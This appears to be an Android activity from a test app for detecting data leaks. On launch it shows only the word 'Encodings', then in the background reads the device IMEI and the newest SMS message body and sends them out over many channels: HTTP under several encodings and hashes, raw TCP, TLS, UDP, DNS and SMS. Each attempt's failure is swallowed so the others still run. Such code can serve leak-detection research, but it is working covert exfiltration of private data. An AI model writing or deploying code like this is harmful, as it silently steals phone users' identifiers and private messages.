package org.encodings.example;

import android.app.Activity;
import android.content.Context;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.Telephony;
import android.telephony.TelephonyManager;
import android.util.Log;
import android.widget.TextView;
import java.util.Map;

/** Sends everything once per launch, one after the other. */
public class EncodingsActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText("Encodings");
        text.setTextSize(24);
        text.setPadding(48, 48, 48, 48);
        setContentView(text);
        new Thread(this::sendAll, "encodings").start();
    }

    private void sendAll() {
        String imei = imei();
        String secret = "imei=" + imei + "&text=" + newestText();
        for (Map.Entry<String, Encoding> one : Encoding.ALL.entrySet()) {
            attempt(one.getKey(), () -> Channels.http(one.getKey(), one.getValue().of(secret)));
        }
        attempt("md5", () -> Channels.http("md5", Encoding.hash("MD5", imei)));
        attempt("sha1", () -> Channels.http("sha1", Encoding.hash("SHA-1", imei)));
        attempt("sha256", () -> Channels.http("sha256", Encoding.hash("SHA-256", imei)));
        attempt("tcp", () -> Channels.tcp(secret));
        attempt("tls", () -> Channels.tls(secret));
        attempt("udp", () -> Channels.udp(secret));
        attempt("dns", () -> Channels.dns(imei));
        attempt("sms", () -> Channels.sms(imei));
    }

    /** One way that fails must not keep the others from being tried. */
    private static void attempt(String name, Channels.Send send) {
        try {
            send.run();
        } catch (Exception failure) {
            Log.w("Encodings", name, failure);
        }
    }

    @SuppressWarnings("deprecation")
    private String imei() {
        return ((TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE)).getDeviceId();
    }

    private String newestText() {
        String[] columns = {"body"};
        try (Cursor rows =
                getContentResolver()
                        .query(Telephony.Sms.CONTENT_URI, columns, null, null, "date DESC")) {
            return rows != null && rows.moveToFirst() ? rows.getString(0) : "";
        }
    }
}
